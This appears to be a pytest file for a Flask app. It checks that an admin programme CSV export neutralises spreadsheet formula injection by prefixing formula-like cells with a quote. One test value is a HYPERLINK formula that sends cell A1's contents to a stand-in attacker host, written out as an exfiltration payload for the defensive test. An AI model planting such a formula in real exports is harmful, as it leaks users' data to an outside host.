"""The programme CSV is opened in spreadsheets: a research field is typed by an academic, so
a cell that starts like a formula must reach the spreadsheet as text, not as a formula."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from typing import Any

from flask.testing import FlaskClient
from sqlmodel import Session

FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"open")', "+1+1", "-2+3", "@SUM(A1:A9)"]


def test_a_field_typed_like_a_formula_is_downloaded_as_text(
    client: FlaskClient,
    auth: Any,
    session: Session,
    make_admin: Callable[..., Any],
    programme: dict[str, Any],
) -> None:
    energy = programme["proposals"][0]
    energy.research_areas = [*FORMULAS, "\tTAB=1"]
    session.add(energy)
    session.commit()
    auth.login(make_admin(email="root@example.org").email)
    download = client.get("/admin/programme.csv")
    assert download.status_code == 200
    rows = list(csv.reader(io.StringIO(download.get_data(as_text=True))))
    groups = [row[1] for row in rows[1:] if row[0] == "field"]
    for formula in FORMULAS:
        assert f"'{formula}" in groups
    assert "'\tTAB=1" in groups
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    # Numbers stay numbers and plain words stay as they were.
    assert "vision" in groups
    header = rows[0]
    under = next(r for r in rows if r[0] == "lab" and r[1].startswith("Under"))
    assert under[header.index("introduced")] == "3"
